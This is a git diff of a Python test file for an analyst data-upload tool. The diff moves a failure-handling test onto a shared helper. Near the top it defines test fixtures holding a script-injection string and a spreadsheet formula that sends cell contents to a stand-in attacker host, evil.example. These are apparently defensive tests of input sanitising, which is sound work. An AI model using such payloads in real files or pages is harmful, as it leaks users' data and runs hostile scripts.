@@ -9,7 +9,7 @@ import pytest
 from store import uploads
 from model.errors import InputError
 
-from .analyst_kit import VANCOUVER, analyst, check, errors, ok, read_csv, texts, upload
+from .analyst_kit import VANCOUVER, analyst, check, errors, failed_check, ok, read_csv, texts, upload
 
 SCRIPT = "<script>alert('x')</script>"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -161,15 +161,7 @@ def test_quarter_written_wrongly(store, realdata):
 
 
 def test_unexpected_failure_is_a_sentence_and_a_log_line(store, realdata, monkeypatch):
-    from bridges import actions
-
-    def boom(*a, **k):
-        raise RuntimeError("disk on fire")
-
-    monkeypatch.setattr(actions, "ingest_upload", boom)
-    src = realdata / VANCOUVER
-    at = upload(analyst(), src.name, src.read_bytes())
-    at.button(key="upl_check").click().run()
+    at = failed_check(realdata, monkeypatch)
     _sentence(at, "Something unexpected went wrong (RuntimeError). Nothing was published.")
     assert "disk on fire" not in texts(at)
     assert "disk on fire" in (store.root / "logs" / "analyst-errors.log").read_text()
